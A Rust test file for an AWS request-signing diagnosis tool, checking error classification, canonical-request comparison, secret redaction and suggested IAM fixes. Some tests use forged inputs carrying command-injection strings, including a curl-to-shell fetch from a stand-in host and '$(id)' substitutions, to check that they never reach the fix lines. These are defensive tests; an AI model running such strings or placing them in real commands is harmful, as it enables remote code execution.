use super::s3_tests::s3_mismatch;
use super::*;
use crate::diagnosis::failure::{Answer, Locale};
use crate::diagnosis::simulation::{answer_to, page};
use crate::diagnosis::{Diagnosis, explain_answer};

pub(super) const TOKEN: &str = "IQoJb3JpZ2luX2VjEXAMPLEtoken/with+more==";
pub(super) const HASH: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
const API: &str = "https://abc123.execute-api.ap-northeast-1.amazonaws.com/prod/items";

fn answered(status: u16, body: &str) -> Answered {
    let headers = [("x-amzn-errortype", "X")].into_iter().collect();
    Answered { status, headers, body: body.to_owned() }
}

pub(super) fn signed(url: &str) -> Answer {
    answer_to(url, Auth::Iam, None)
}

pub(super) fn explained(answer: &Answer, status: u16, body: &str) -> Diagnosis {
    explain_answer(answer, &answered(status, body), &page())
}

pub(super) fn first(answer: &Answer, status: u16, body: &str) -> &'static str {
    explained(answer, status, body).findings[0].code
}

fn message(text: &str) -> String {
    serde_json::json!({ "message": text }).to_string()
}

/// A canonical request, as the SDK hands it over and as the services repeat it.
pub(super) fn canonical(method: &str, path: &str, query: &str, headers: &str, hash: &str) -> String {
    let names: Vec<&str> = headers.lines().map(|line| line.split(':').next().unwrap()).collect();
    format!("{method}\n{path}\n{query}\n{headers}\n\n{}\n{hash}", names.join(";"))
}

fn mismatch(canonical: &str) -> String {
    message(&format!(
        "The request signature we calculated does not match the signature you provided. Check your AWS Secret Access Key and signing \
         method. Consult the service documentation for details.\n\nThe Canonical String for this request should have \
         been\n'{canonical}'\n\nThe String-to-Sign should have been\n'AWS4-HMAC-SHA256\n20260101T120000Z\n\
         20260101/ap-northeast-1/execute-api/aws4_request\n{HASH}'\n"
    ))
}

pub(super) fn headers(host: &str) -> String {
    format!("host:{host}\nx-amz-date:20260101T120000Z\nx-amz-security-token:{TOKEN}")
}

/// The finding of a call whose signature was made for `ours`, where the API saw `theirs`.
fn compared(url: &str, ours: &str, theirs: &str) -> (Diagnosis, String) {
    let answer = Answer { canonical_request: Some(ours.to_owned()), ..signed(url) };
    let diagnosis = explained(&answer, 403, &mismatch(theirs));
    let code = diagnosis.findings[0].fixes.iter().map(|fix| fix.text.clone()).collect::<Vec<_>>().join("\n");
    (diagnosis, code)
}

#[test]
fn each_service_says_it_in_its_own_words() {
    let xml = |code: &str, text: &str| {
        format!("<?xml version=\"1.0\"?>\n<Error><Code>{code}</Code><Message>{text}</Message></Error>")
    };
    let user =
        "User: arn:aws:sts::123456789012:assumed-role/general/CognitoIdentityCredentials is not authorized to perform:";
    for (status, body, code) in [
        (403, message("Credential should be scoped to a valid region, not 'us-east-1'. "), "signature-scope"),
        (403, message("Credential should be scoped to correct service: 'execute-api'. "), "signature-scope"),
        (
            403,
            message("Date in Credential scope does not match YYYYMMDD from ISO-8601 version of date from HTTP: '20260101' != '20251231'"),
            "signature-scope",
        ),
        (
            400,
            xml("AuthorizationHeaderMalformed", "The authorization header is malformed; the region 'us-east-1' is wrong; expecting 'eu-west-1'"),
            "signature-scope",
        ),
        (
            400,
            xml("AuthorizationHeaderMalformed", "The authorization header is malformed; incorrect service \"execute-api\". This endpoint belongs to \"s3\"."),
            "signature-scope",
        ),
        (403, message("Signature expired: 20260101T120000Z is now earlier than 20260101T125500Z (20260101T130000Z - 5 min.)"), "signature-expired"),
        (403, message("Signature not yet current: 20260101T130000Z is still later than 20260101T120500Z"), "signature-expired"),
        (403, xml("RequestTimeTooSkewed", "The difference between the request time and the current time is too large."), "signature-expired"),
        (403, xml("AccessDenied", "Request has expired"), "presigned-url-expired"),
        (403, message("The security token included in the request is expired"), "security-token-rejected"),
        (400, xml("ExpiredToken", "The provided token has expired."), "security-token-rejected"),
        (403, message("The security token included in the request is invalid."), "access-key-unknown"),
        (403, xml("InvalidAccessKeyId", "The AWS Access Key Id you provided does not exist in our records."), "access-key-unknown"),
        (400, xml("InvalidToken", "The provided token is malformed or otherwise invalid."), "access-key-unknown"),
        (403, message("Authorization header requires 'Credential' parameter. Authorization=Bearer x"), "incomplete-signature"),
        (403, message("Invalid key=value pair (missing equal-sign) in Authorization header: 'Bearer x'."), "incomplete-signature"),
        (
            403,
            message("There were headers present in the request which were not signed: x-amz-meta-a"),
            "signature-mismatch",
        ),
        (400, xml("XAmzContentSHA256Mismatch", "The provided header does not match what was computed."), "signature-mismatch"),
        (403, message("Missing Authentication Token"), "missing-authentication-token"),
        (403, format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x\"}}"), "iam-not-authorized"),
        (
            403,
            format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x because no identity-based policy allows the execute-api:Invoke action\"}}"),
            "iam-not-authorized",
        ),
        (
            403,
            format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x with an explicit deny in an identity-based policy\"}}"),
            "policy-denied",
        ),
        (
            403,
            format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x because no session policy allows the execute-api:Invoke action\"}}"),
            "policy-denied",
        ),
        (
            403,
            format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x because no permissions boundary allows the execute-api:Invoke action\"}}"),
            "policy-denied",
        ),
        (
            403,
            format!("{{\"Message\":\"{user} execute-api:Invoke on resource: x with an explicit deny in a resource-based policy\"}}"),
            "resource-policy-denied",
        ),
        (403, "{\"Message\":\"User: anonymous is not authorized to perform: execute-api:Invoke on resource: x\"}".into(), "resource-policy-denied"),
        (403, format!("{{\"Message\":\"{user} lambda:InvokeFunctionUrl on resource: x\"}}"), "function-url-forbidden"),
        (403, xml("AccessDenied", "Access Denied"), "iam-not-authorized"),
        (403, xml("SignatureDoesNotMatch", "The request signature we calculated does not match the signature you provided. Check your key and signing method."), "signature-mismatch"),
        (401, r#"{"errors":[{"errorType":"UnauthorizedException","message":"You are not authorized to make this call."}]}"#.into(), "appsync-unauthorized"),
    ] {
        assert_eq!(first(&signed(API), status, &body), code, "{body}");
    }
    let presigned = signed("https://abc123.execute-api.ap-northeast-1.amazonaws.com/prod/items?X-Amz-Signature=abc");
    assert_eq!(
        first(&presigned, 403, &message("Signature expired: 20260101T120000Z is now earlier than")),
        "presigned-url-expired"
    );
    // another server may use such words of its own
    let other = Answered { status: 403, body: message("Signature expired"), ..Answered::default() };
    let diagnosis = explain_answer(&answer_to("https://api.test/", Auth::Iam, None), &other, &page());
    assert_eq!(diagnosis.verdict, Verdict::Likely);
}

#[test]
fn the_first_line_that_differs_is_named() {
    let cloudfront = "https://d111.cloudfront.net/prod/items";
    let ours = canonical("GET", "/prod/items", "", &headers("d111.cloudfront.net"), HASH);
    let theirs = canonical("GET", "/prod/items", "", &headers("abc123.execute-api.ap-northeast-1.amazonaws.com"), HASH);
    let (diagnosis, fix) = compared(cloudfront, &ours, &theirs);
    let found = &diagnosis.findings[0];
    assert_eq!((found.code, found.failed_parameter.as_deref()), ("cloudfront-signature-host", Some("host")));
    assert!(
        found.detail.starts_with(
            "host: we signed d111.cloudfront.net, the API saw abc123.execute-api.ap-northeast-1.amazonaws.com. "
        ),
        "{}",
        found.detail
    );
    assert!(fix.contains("signAs: 'https://abc123.execute-api.ap-northeast-1.amazonaws.com',"), "{fix}");
    assert_eq!(diagnosis.verdict, Verdict::Certain);

    let at = |path: &str| canonical("GET", path, "", &headers("abc123.execute-api.ap-northeast-1.amazonaws.com"), HASH);
    for (url, ours, theirs, sign_as) in [
        // an origin path, which the distribution puts before
        (
            "https://d111.cloudfront.net/items/a%20b",
            "/items/a%2520b",
            "/prod/items/a%2520b",
            "'https://abc123.execute-api.ap-northeast-1.amazonaws.com/prod',",
        ),
        // a prefix that it takes away
        (
            "https://d111.cloudfront.net/admin/users",
            "/admin/users",
            "/users",
            "{ origin: 'https://abc123.execute-api.ap-northeast-1.amazonaws.com', stripPrefix: '/admin' },",
        ),
        // both
        (
            "https://d111.cloudfront.net/admin/users",
            "/admin/users",
            "/prod/users",
            "{ origin: 'https://abc123.execute-api.ap-northeast-1.amazonaws.com/prod', stripPrefix: '/admin' },",
        ),
    ] {
        let (diagnosis, fix) = compared(url, &at(ours), &at(theirs));
        let found = &diagnosis.findings[0];
        assert_eq!((found.code, found.failed_parameter.as_deref()), ("signature-path", Some("path")), "{theirs}");
        assert!(
            found.detail.starts_with(&format!("path: we signed {ours}, the API saw {theirs}. ")),
            "{}",
            found.detail
        );
        assert!(fix.contains(&format!("signAs: {sign_as}")), "{fix}");
    }
}

#[test]
fn what_changed_on_the_way_is_named_without_what_it_holds() {
    let host = "abc123.execute-api.ap-northeast-1.amazonaws.com";
    let with = |more: &str| format!("{more}{}", headers(host));
    let base = canonical("POST", "/prod/items", "a=1&b=2", &with("content-type:application/json\n"), HASH);
    for (theirs, line, words) in [
        (
            canonical("PUT", "/prod/items", "a=1&b=2", &with("content-type:application/json\n"), HASH),
            "method",
            "we signed POST, the API saw PUT. ",
        ),
        (
            canonical("POST", "/prod/items", "a=1", &with("content-type:application/json\n"), HASH),
            "?b",
            "the API did not see what we signed. ",
        ),
        (
            canonical("POST", "/prod/items", "a=3&b=2", &with("content-type:application/json\n"), HASH),
            "?a",
            "the API did not see what we signed. ",
        ),
        (
            canonical("POST", "/prod/items", "a=1&b=2", &with("content-type:application/json; charset=utf-8\n"), HASH),
            "content-type",
            "we signed application/json, the API saw application/json; charset=utf-8. ",
        ),
        (
            canonical("POST", "/prod/items", "a=1&b=2", &with(""), HASH),
            "content-type",
            "we signed application/json, the API saw –. ",
        ),
        (
            canonical("POST", "/prod/items", "a=1&b=2", &with("content-type:application/json\n"), "ab12"),
            "payload",
            &format!("we signed {HASH}, the API saw ab12. "),
        ),
        (
            canonical(
                "POST",
                "/prod/items",
                "a=1&b=2",
                &with("content-type:application/json\n").replace(TOKEN, "other"),
                HASH,
            ),
            "x-amz-security-token",
            "the API did not see what we signed. ",
        ),
    ] {
        let (diagnosis, fix) = compared(API, &base, &theirs);
        let found = &diagnosis.findings[0];
        assert_eq!((found.code, found.failed_parameter.as_deref()), ("signature-mismatch", Some(line)));
        assert!(found.detail.starts_with(&format!("{line}: {words}")), "{}", found.detail);
        assert!(fix.contains("content-type") && !fix.contains("signAs"), "{fix}");
    }
    let (diagnosis, fix) = compared(API, &base, &base);
    assert_eq!(
        (diagnosis.findings[0].code, diagnosis.findings[0].failed_parameter.as_deref()),
        ("signature-key", None)
    );
    assert!(fix.contains("forceRefresh"), "{fix}");
}

#[test]
fn no_secret_of_a_signature_is_told() {
    let hex: String = TOKEN.bytes().take(9).map(|byte| format!("{byte:02x} ")).collect();
    let secrets = [TOKEN, "ASIAEXAMPLE", "deadbeef", "FwoGZXIvY", &hex];
    let url = format!(
        "{API}?X-Amz-Credential=ASIAEXAMPLE%2F20260101&X-Amz-Security-Token={}&X-Amz-Signature=deadbeef",
        TOKEN.replace('/', "%2F")
    );
    let canonical = canonical(
        "GET",
        "/prod/items",
        &format!("X-Amz-Credential=ASIAEXAMPLE&X-Amz-Security-Token={TOKEN}"),
        &headers("h"),
        HASH,
    );
    for body in [
        mismatch(&canonical),
        message(&format!(
            "Authorization header requires 'Signature' parameter. Authorization=AWS4-HMAC-SHA256 Credential=ASIAEXAMPLE/x, Signature=deadbeef x-amz-security-token:{TOKEN}"
        )),
        message(&format!("Invalid key=value pair in Authorization header: 'Bearer {TOKEN}'")),
        "<Error><Code>ExpiredToken</Code><Token-0>FwoGZXIvY</Token-0></Error>".to_owned(),
        s3_mismatch(&canonical),
        format!("X-AMZ-SIGNATURE=deadbeef&x-amz-credential=ASIAEXAMPLE&X-Amz-Security-Token={TOKEN}"),
    ] {
        for locale in [Locale::En, Locale::Ja] {
            let ours = canonical.replace("host:h", "host:other");
            let answer = Answer { canonical_request: Some(ours), locale, ..signed(&url) };
            let told = serde_json::to_string(&explained(&answer, 403, &body)).unwrap();
            for secret in secrets {
                assert!(!told.contains(secret), "{secret} in {told}");
            }
        }
    }
}

#[test]
fn a_refused_role_is_named_with_the_statement_that_would_allow_it() {
    let denied = |reason: &str| {
        format!(
            "{{\"Message\":\"User: arn:aws:sts::123456789012:assumed-role/general/CognitoIdentityCredentials is not authorized to \
             perform: execute-api:Invoke on resource: arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/items{reason}\"}}"
        )
    };
    let found = explained(&signed(API), 403, &denied("")).findings.remove(0);
    assert!(found.title.contains("role general") && found.title.contains("execute-api:Invoke"), "{}", found.title);
    let cli = found.fixes.iter().find(|fix| fix.tool == crate::diagnosis::fix::Tool::Cli).unwrap();
    assert!(cli.text.contains("--role-name general "), "{}", cli.text);
    assert!(
        cli.text.contains("\"Action\":\"execute-api:Invoke\",\"Resource\":\"arn:aws:execute-api:ap-northeast-1:123456789012:abc123/prod/GET/items\""),
        "{}",
        cli.text
    );

    // no statement helps against a Deny
    let found =
        explained(&signed(API), 403, &denied(" with an explicit deny in an identity-based policy")).findings.remove(0);
    assert!(found.fixes.iter().all(|fix| !fix.text.contains("put-role-policy") && !fix.text.contains("Effect: Allow")));
    let found =
        explained(&signed(API), 403, &denied(" because no session policy allows the execute-api:Invoke action"))
            .findings
            .remove(0);
    assert!(found.title.contains("session policy"), "{}", found.title);

    let answer = signed("https://photos.s3.eu-west-1.amazonaws.com/cats/1.jpg");
    let found = explained(&answer, 403, "<Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>")
        .findings
        .remove(0);
    let statement = found.fixes.iter().find(|fix| fix.text.starts_with("- Effect")).unwrap();
    assert_eq!(statement.text, "- Effect: Allow\n  Action: s3:GetObject\n  Resource: arn:aws:s3:::photos/cats/1.jpg");
}

#[test]
fn a_resource_is_taken_from_an_answer_only_if_it_is_the_calls() {
    let resource = "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users";
    let known = |account: &str| resource.replace("********9012", account);
    let answer = answer_to("https://app.example.com/api/admin/users", Auth::Iam, Some(RouteKind::RestApi));
    let facts = Facts::new(&answer.request, &answer.route, &page());
    for (caller, account) in
        [("", "*"), ("User: arn:aws:sts::123456789012:x", "123456789012"), ("User: arn:aws:sts::999999999999:x", "*")]
    {
        let body = format!("{caller} on resource: {resource} with an explicit deny");
        assert_eq!(denied_resource(&facts, &body), Some(known(account)));
    }
    for forged in [
        "something else",
        "arn:x'\n;curl${IFS}https://evil.test|sh;:'",
        "arn:aws:execute-api:*:*:*",
        "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/*",
        "arn:aws:execute-api:ap-northeast-1:********9012:abc123/*/GET/admin/users",
        "arn:aws:execute-api:ap-northeast-1:********9012:*/prod/GET/admin/users",
        "arn:aws:execute-api:ap-northeast-1:************:abc123/prod/GET/admin/users",
        "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/DELETE/admin/users",
        "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/other",
        "arn:aws:execute-api:ap-northeast-1:********9012:abc123/prod/GET/admin/users'$(id)",
        "arn:aws:iam:ap-northeast-1:********9012:abc123/prod/GET/admin/users",
    ] {
        assert_eq!(denied_resource(&facts, &format!("on resource: {forged}")), None, "{forged}");
    }
    let own = answer_to("https://mine.execute-api.ap-northeast-1.amazonaws.com/prod/admin/users", Auth::Iam, None);
    let facts = Facts::new(&own.request, &own.route, &page());
    assert_eq!(denied_resource(&facts, &format!("on resource: {resource}")), None, "another API");
}

#[test]
fn nothing_of_a_forged_answer_breaks_out_of_the_lines_to_paste() {
    for evil in ["$(id)", "`id`", "';id", "\";id", "${IFS}", "x\ny", "{a}"] {
        let theirs = canonical("GET", &format!("/{evil}/prod/items"), "", &headers(&format!("a.test{evil}")), HASH);
        let ours = canonical("GET", "/prod/items", "", &headers("abc123"), HASH);
        let answer = Answer { canonical_request: Some(ours), ..signed(API) };
        let bodies = [
            mismatch(&theirs),
            message(&format!("is wrong; expecting '{evil}' Credential should be scoped to correct service: '{evil}'")),
            message(&format!("the region 'x' is wrong; expecting '{evil}' belongs to \"{evil}\"")),
            message(&format!(
                "User: arn:aws:sts::1:assumed-role/{evil}/x is not authorized to perform: {evil} on resource: arn:aws:{evil}"
            )),
            format!(
                "<Error><Code>AccessDenied</Code> assumed-role/{evil}/x perform: s3:{evil} on resource: {evil}</Error>"
            ),
        ];
        for body in bodies {
            for fix in explained(&answer, 403, &body).findings.iter().flat_map(|found| &found.fixes) {
                for part in ["$(id)", "`id`", "';id", "\";id", "{IFS}", "x\ny", "{a}"] {
                    assert!(!fix.text.contains(part), "{part} in {}", fix.text);
                }
            }
        }
    }
}

#[test]
fn region_and_service_come_from_the_answer_where_it_names_them() {
    let scope = |body: &str| {
        explained(&signed("https://files.example.com/a"), 400, body).findings.remove(0).fixes.remove(0).text
    };
    assert!(
        scope("the region 'us-east-1' is wrong; expecting 'eu-west-1'")
            .contains("region: 'eu-west-1', service: 'execute-api'")
    );
    let body = message("Credential should be scoped to correct service: 'appsync'. ");
    assert!(scope(&body).contains("region: 'REGION', service: 'appsync'"));
}

#[test]
fn a_bare_forbidden_of_an_http_api_lists_what_it_may_be() {
    let answer = |date: &str| {
        let mut answer = answer_to(API, Auth::Iam, Some(RouteKind::HttpApi));
        answer.request.headers = [("x-amz-date", "20260101T235900Z")].into_iter().collect();
        let headers = [("apigw-requestid", "x"), ("date", date)].into_iter().collect();
        let answered = Answered { status: 403, headers, body: message("Forbidden") };
        let diagnosis = explain_answer(&answer, &answered, &page());
        diagnosis.findings.iter().map(|found| found.code).collect::<Vec<_>>()
    };
    let unknown = answer("");
    assert_eq!(unknown[..3], ["http-api-forbidden", "iam-not-authorized", "cloudfront-signature-host"]);
    assert_eq!(unknown.last(), Some(&"signature-expired"));
    for near in ["Fri, 02 Jan 2026 00:02:00 GMT", "Thu, 01 Jan 2026 23:55:00 GMT", "Thu, 01 Jan 2026 23:59:59 GMT"] {
        assert!(!answer(near).contains(&"signature-expired"), "{near}");
    }
    // as many days, months or years
    for far in ["Fri, 02 Jan 2026 23:59:00 GMT", "Sun, 01 Feb 2026 23:59:00 GMT", "Fri, 01 Jan 2027 23:59:00 GMT"] {
        assert_eq!(answer(far)[0], "signature-expired", "{far}");
    }
    assert_eq!(answer("Fri, 02 Jan 2026 05:02:00 GMT")[0], "signature-expired");
}

#[test]
fn a_distribution_that_drops_the_header_is_thought_of() {
    let answer = answer_to("https://d111.cloudfront.net/items", Auth::Iam, Some(RouteKind::Cloudfront));
    let diagnosis = explained(&answer, 403, &message("Missing Authentication Token"));
    let codes: Vec<&str> = diagnosis.findings.iter().map(|found| found.code).collect();
    assert_eq!(codes, ["missing-authentication-token", "cloudfront-authorization-dropped"]);
}
